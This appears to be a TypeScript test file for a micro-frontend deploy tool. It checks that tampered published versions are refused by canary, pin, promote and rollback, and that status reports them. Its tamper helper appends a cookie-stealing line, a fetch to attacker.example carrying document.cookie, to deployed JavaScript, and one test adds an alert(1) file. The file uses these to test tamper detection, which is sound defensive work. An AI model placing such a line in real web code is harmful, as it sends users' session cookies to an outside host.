import { appendFile, readFile, rm, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { canary, pin, promote, rollback, status, type EnvOptions } from './commands';
import { CheckFailedError, manifestPath, resolveRemote } from './deploy-layout';
import { sha384Integrity } from './integrity';
import { readManifest } from './manifest-store';
import { PublishRefusedError, publish } from './publish';
import { fakeBuild, fakeShellManifest, tempDir } from './testing/fake-build';

// What an attacker who can write the version folders (not the manifests) can do, and what stops it.
const points = resolveRemote('mf-points');
const BASE = 'https://cdn.example/mf-points';
const CHUNK = '__federation_expose_routes.0123456789.js';

async function deployRoot() {
  const root = await tempDir('integrity');
  const options: EnvOptions = { root, env: 'production', actor: 'ada', shellManifest: await fakeShellManifest() };
  return { root, options };
}

const versionFile = (root: string, version: string, file: string) => path.join(root, 'mf-points', version, file);

async function published(root: string, version: string) {
  return publish({ root, remote: points, actor: 'ada', from: await fakeBuild(version) });
}

/** Changes a file of a published version and rewrites its release.json to vouch for it. */
async function tamper(root: string, version: string, file: string) {
  await appendFile(versionFile(root, version, file), '\nfetch("https://attacker.example/?" + document.cookie);\n');
  const note = versionFile(root, version, 'release.json');
  const record = JSON.parse(await readFile(note, 'utf8')) as { integrity: string };
  record.integrity = await sha384Integrity(versionFile(root, version, 'remoteEntry.js'));
  await writeFile(note, JSON.stringify(record));
}

const refusal = (work: Promise<unknown>) =>
  work.then(
    () => {
      throw new Error('expected the command to be refused');
    },
    (error: unknown) => {
      expect(error).toBeInstanceOf(CheckFailedError);
      return (error as CheckFailedError).message;
    },
  );

describe('a tampered version never goes live', () => {
  it('canary refuses an entry changed together with its release.json', async () => {
    const { root, options } = await deployRoot();
    await published(root, '1.0.0');
    await published(root, '1.1.0');
    await pin(options, points, '1.0.0', BASE);
    await tamper(root, '1.1.0', 'remoteEntry.js');

    expect(await refusal(canary(options, points, '1.1.0', 10, BASE))).toMatch(
      /remoteEntry\.js was changed after publishing/,
    );
    expect((await readManifest(root, 'production')).remotes.mf_points?.canary).toBeUndefined();
  });

  it('pin and canary refuse a changed chunk, an added file and a missing one', async () => {
    const { root, options } = await deployRoot();
    await published(root, '1.0.0');
    await tamper(root, '1.0.0', CHUNK);
    expect(await refusal(pin(options, points, '1.0.0', BASE))).toMatch(
      new RegExp(`${CHUNK.replace(/\./g, '\\.')} was changed after publishing`),
    );

    await published(root, '1.1.0');
    await writeFile(versionFile(root, '1.1.0', 'extra.js'), 'alert(1)');
    await rm(versionFile(root, '1.1.0', 'version.json'));
    const message = await refusal(pin(options, points, '1.1.0', BASE));
    expect(message).toMatch(/extra\.js was added after publishing/);
    expect(message).toMatch(/version\.json is missing/);
  });

  it('promote refuses a canary whose files changed after it started, release.json included', async () => {
    const { root, options } = await deployRoot();
    await published(root, '1.0.0');
    await published(root, '1.1.0');
    await pin(options, points, '1.0.0', BASE);
    await canary(options, points, '1.1.0', 10, BASE);
    await tamper(root, '1.1.0', 'remoteEntry.js');

    expect(await refusal(promote(options, points))).toMatch(/remoteEntry\.js was changed after publishing/);
    expect((await readManifest(root, 'production')).remotes.mf_points?.stable.version).toBe('1.0.0');
  });

  it("promote keeps the canary's own record, and refuses one that differs from what was published", async () => {
    const { root, options } = await deployRoot();
    await published(root, '1.0.0');
    await published(root, '1.1.0');
    await pin(options, points, '1.0.0', BASE);
    await canary(options, points, '1.1.0', 10, BASE);
    const manifest = await readManifest(root, 'production');
    const canaryIntegrity = manifest.remotes.mf_points!.canary!.integrity;
    manifest.remotes.mf_points!.canary!.integrity = `sha384-${'A'.repeat(64)}`;
    await writeFile(manifestPath(root, 'production'), JSON.stringify(manifest));

    expect(await refusal(promote(options, points))).toMatch(/the canary's record in the manifest/);

    manifest.remotes.mf_points!.canary!.integrity = canaryIntegrity;
    await writeFile(manifestPath(root, 'production'), JSON.stringify(manifest));
    await promote(options, points);
    expect((await readManifest(root, 'production')).remotes.mf_points?.stable).toMatchObject({
      version: '1.1.0',
      integrity: canaryIntegrity,
    });
  });

  it('rollback refuses a previous release whose files changed', async () => {
    const { root, options } = await deployRoot();
    await published(root, '1.0.0');
    await published(root, '1.1.0');
    await pin(options, points, '1.0.0', BASE);
    await pin(options, points, '1.1.0', BASE);
    await tamper(root, '1.0.0', CHUNK);
    expect(await refusal(rollback(options, points))).toMatch(/changed after publishing/);
  });

  it('a publish record never changes: the same version cannot be published again, even with its folder gone', async () => {
    const { root } = await deployRoot();
    await published(root, '1.0.0');
    await rm(path.join(root, 'mf-points', '1.0.0'), { recursive: true });
    await expect(published(root, '1.0.0')).rejects.toBeInstanceOf(PublishRefusedError);
  });
});

describe('status', () => {
  it('says which versions the manifest names are missing or changed, and nothing when all are as published', async () => {
    const { root, options } = await deployRoot();
    await published(root, '1.0.0');
    await published(root, '1.1.0');
    await published(root, '1.2.0');
    await pin(options, points, '1.0.0', BASE);
    await pin(options, points, '1.1.0', BASE);
    await canary(options, points, '1.2.0', 5, BASE);
    expect((await status(root, 'production')).problems).toEqual([]);

    await rm(path.join(root, 'mf-points', '1.0.0'), { recursive: true });
    await tamper(root, '1.2.0', CHUNK);
    const { problems } = await status(root, 'production');
    expect(problems).toEqual([
      {
        remote: 'mf-points',
        channel: 'canary',
        version: '1.2.0',
        problems: [expect.stringMatching(/__federation_expose_routes.*was changed after publishing/)],
      },
      {
        remote: 'mf-points',
        channel: 'previous',
        version: '1.0.0',
        problems: [expect.stringMatching(/missing from the deploy root/)],
      },
    ]);
  });
});
